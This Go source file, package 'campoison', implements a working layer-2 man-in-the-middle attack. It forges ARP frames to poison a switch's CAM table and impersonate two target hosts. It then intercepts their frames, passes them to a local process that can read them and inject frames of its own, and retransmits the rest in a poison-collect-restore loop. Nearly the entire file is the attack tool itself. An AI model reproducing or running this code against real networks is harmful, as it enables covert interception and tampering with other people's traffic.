// SPDX-FileCopyrightText: 2022 SAP SE or an SAP affiliate company and IronCore contributors
// SPDX-License-Identifier: Apache-2.0

// Package campoison intercepts the traffic between two hosts on a switched
// segment by poisoning the switch's CAM table with forged ARP requests.
// Intercepted frames are handed to a local process over a datagram socket and
// everything else is retransmitted once the switch has relearned the port of
// its real destination.
package campoison

import (
	"bytes"
	"context"
	"net"
	"net/netip"
	"sync"

	"github.com/google/uuid"
	"github.com/ironcore-dev/campoison/arp"
	"github.com/ironcore-dev/campoison/netif"
	"github.com/ironcore-dev/campoison/queue"
	"github.com/ironcore-dev/campoison/receiver"
	"github.com/pkg/errors"
	log "github.com/sirupsen/logrus"
	"golang.org/x/sys/unix"
)

// Channel carries intercepted frames to the consumer and injected frames
// back.
type Channel interface {
	Send(data []byte) error
	Source() receiver.Source
}

type Attack struct {
	config Config
	iface  *netif.Interface
	cache  *arp.Cache

	resolver *arp.Resolver
	codec    *arp.Codec
	wire     arp.Link
	ipc      Channel
	ipcFd    int
	recv     *receiver.Receiver

	targets []net.HardwareAddr
	live    *queue.Queue

	stateLock sync.RWMutex
	state     AttackState

	session uuid.UUID
	stats   Stats
	buf     [arp.FrameSize]byte
}

// NewAttack prepares an attack on the two configured hosts, which must
// already be resolved in cache. wire must receive every frame of the
// interface.
func NewAttack(config Config, iface *netif.Interface, cache *arp.Cache, wire arp.Link, ipc Channel) (*Attack, error) {
	if err := config.Validate(iface); err != nil {
		return nil, err
	}

	a := &Attack{
		config:   config,
		iface:    iface,
		cache:    cache,
		resolver: arp.NewResolver(iface, cache, wire),
		wire:     wire,
		ipc:      ipc,
		ipcFd:    ipc.Source().Fd,
		live:     queue.New(config.QueueLimit),
		state:    POISON,
		session:  uuid.New(),
	}
	a.codec = a.resolver.Codec()

	for _, ip := range []netip.Addr{config.Host1, config.Host2} {
		mac, ok := cache.LookupMAC(ip)
		if !ok {
			return nil, errors.Errorf("host %s is not in the ARP cache", ip)
		}
		a.targets = append(a.targets, mac)
	}

	recv, err := receiver.New(wire.Source(), ipc.Source())
	if err != nil {
		return nil, errors.Wrap(err, "cannot set up the receiver")
	}
	a.recv = recv

	a.log().Infof("Attack prepared: %s (%s) <-> %s (%s) on %s",
		config.Host1, a.targets[0], config.Host2, a.targets[1], iface.Name)

	return a, nil
}

func (a *Attack) Session() uuid.UUID {
	return a.session
}

func (a *Attack) Stats() StatsSnapshot {
	return a.stats.Snapshot()
}

func (a *Attack) Cache() *arp.Cache {
	return a.cache
}

func (a *Attack) Interface() *netif.Interface {
	return a.iface
}

func (a *Attack) State() AttackState {
	a.stateLock.RLock()
	state := a.state
	a.stateLock.RUnlock()
	return state
}

func (a *Attack) setState(state AttackState) {
	a.stateLock.Lock()
	a.state = state
	a.stateLock.Unlock()
}

func (a *Attack) log() *log.Entry {
	return log.WithField("session", a.session.String()).WithField("state", a.State().String())
}

// Close releases the receiver. The sockets belong to the caller.
func (a *Attack) Close() error {
	a.live.Release()
	return a.recv.Close()
}

// Run cycles through POISON, COLLECT and RESTORE until ctx is cancelled or an
// I/O error occurs. Cancellation is observed between states. The returned
// error is always fatal.
func (a *Attack) Run(ctx context.Context) error {
	a.log().Infof("Starting attack")

	for {
		select {
		case <-ctx.Done():
			a.setState(STOPPED)
			a.log().Infof("Attack stopped")
			return nil
		default:
		}

		switch a.State() {
		case POISON:
			a.stats.Cycles.Add(1)
			ok, err := a.poison()
			if err != nil {
				return a.fail(err)
			}
			if ok {
				a.setState(COLLECT)
			}

		case COLLECT:
			if err := a.collect(); err != nil {
				a.log().Errorf("Collection aborted: %v", err)
				a.setState(POISON)
				continue
			}
			if a.live.Empty() {
				a.setState(POISON)
			} else {
				a.setState(RESTORE)
			}

		case RESTORE:
			if err := a.restore(); err != nil {
				return a.fail(err)
			}
			a.setState(POISON)

		default:
			return errors.Errorf("attack in state %s", a.State())
		}
	}
}

func (a *Attack) fail(err error) error {
	a.log().Errorf("Fatal error: %v", err)
	a.setState(STOPPED)
	return err
}

// poison impersonates both hosts towards the switch. It reports false when a
// frame could not be built and the cycle has to start over.
func (a *Attack) poison() (bool, error) {
	for _, mac := range a.targets {
		n, err := a.codec.Poison(a.buf[:], mac)
		if err != nil {
			a.log().Errorf("Cannot craft poisoning frame for %s: %v", mac, err)
			return false, nil
		}

		if err := a.wire.Send(a.buf[:n]); err != nil {
			return false, errors.Wrapf(err, "cannot send poisoning frame for %s", mac)
		}
		a.stats.Poisoned.Add(1)
	}

	a.log().Debugf("CAM tables poisoned")
	return true, nil
}

// collect gathers frames for the configured frequency or until the consumer
// asks for a flush.
func (a *Attack) collect() error {
	res, err := a.recv.Receive(a.config.Frequency, a.handleFrame)
	if err != nil {
		return err
	}
	if res == receiver.Stopped {
		a.log().Debugf("Collection flushed")
	}
	return nil
}

func (a *Attack) handleFrame(src receiver.Source, data []byte, from unix.Sockaddr) receiver.Action {
	if src.Fd == a.ipcFd {
		return a.handleInjected(data)
	}

	if !netif.Inbound(from) || len(data) < arp.EthernetHeaderSize {
		return receiver.Continue
	}

	if log.IsLevelEnabled(log.TraceLevel) {
		a.log().Tracef("Frame received on %s:\n%s", src, arp.Dump(data))
	}

	dst := net.HardwareAddr(data[0:6])
	switch {
	case a.isTarget(dst):
		a.stats.Intercepted.Add(1)
		if err := a.ipc.Send(data); err != nil {
			a.log().Warnf("Cannot forward frame for %s: %v", dst, err)
		}
	case bytes.Equal(dst, a.iface.HardwareAddr):
	case isGroup(dst):
	default:
		a.enqueue(data)
	}

	return receiver.Continue
}

// handleInjected treats a datagram of the consumer: empty ones end the
// collection, anything else is a frame to put on the wire.
func (a *Attack) handleInjected(data []byte) receiver.Action {
	if len(data) == 0 {
		a.stats.Flushes.Add(1)
		return receiver.Stop
	}

	if len(data) < arp.EthernetHeaderSize {
		a.log().Warnf("Dropping %d byte datagram from the IPC channel", len(data))
		a.stats.Dropped.Add(1)
		return receiver.Continue
	}

	if a.enqueue(data) {
		a.stats.Injected.Add(1)
	}
	return receiver.Continue
}

func (a *Attack) enqueue(frame []byte) bool {
	if err := a.live.PushFrame(frame); err != nil {
		a.stats.Dropped.Add(1)
		return false
	}
	a.stats.Queued.Add(1)
	return true
}

func (a *Attack) isTarget(mac net.HardwareAddr) bool {
	for _, t := range a.targets {
		if bytes.Equal(t, mac) {
			return true
		}
	}
	return false
}

// isGroup reports multicast and broadcast addresses.
func isGroup(mac net.HardwareAddr) bool {
	return mac[0]&0x01 != 0
}
